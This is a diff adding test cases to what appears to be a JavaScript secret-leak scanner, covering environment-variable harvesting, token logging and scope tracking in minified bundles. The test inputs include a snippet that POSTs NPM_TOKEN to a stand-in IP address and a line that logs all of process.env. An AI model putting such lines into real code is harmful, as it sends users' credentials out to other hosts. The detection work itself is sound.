@@ -152,7 +152,7 @@ describe("token logging and URLs", () => {
   it("finds a token written to the console or a logger", () => {
     expect(rules(`const t = process.env.SLACK_BOT_TOKEN; console.log("using", t);`)).toEqual(["token-logging:medium"]);
     expect(rules(`logger.debug({ auth: process.env.API_TOKEN });`)).toEqual(["token-logging:medium"]);
-    expect(rules(`console.log(process.env);`)).toEqual(["token-logging:high"]);
+    expect(rules(`console.log(process.env);`)).toEqual(["env-harvest:medium", "token-logging:high"]);
   });
 
   it("finds a token in a query string", () => {
@@ -212,5 +212,18 @@ module.exports = (req, res, next) => {
     expect(rules(`jwt.verify(token, key, { algorithms: ["HS256", "none"] });`)).toEqual(["jwt-unverified:high"]);
     const browser = `import { jwtDecode } from "jwt-decode";\nexport const userName = (token) => jwtDecode(token).name;`;
     expect(rules(browser)).toEqual([]);
+  });
+});
+
+describe("scopes", () => {
+  it("keeps each function's parameters apart, as minified bundles reuse one name everywhere", () => {
+    const source = `function a(e){e=process.env;return Object.keys(e).length}function T(e){console.log(\`> \${e}\`)}a();T("ready");`;
+    expect(rules(source)).toEqual([]);
+    expect(rules(source.replace('T("ready")', "T(process.env)"))).toEqual(["env-harvest:medium", "token-logging:high"]);
+  });
+
+  it("follows a module-level variable assigned inside a function", () => {
+    const source = `let token; function load(){ token = process.env.NPM_TOKEN; } load(); fetch("https://203.0.113.9/t", { method: "POST", body: token });`;
+    expect(rules(source)).toEqual(["token-exfiltration:high"]);
   });
 });
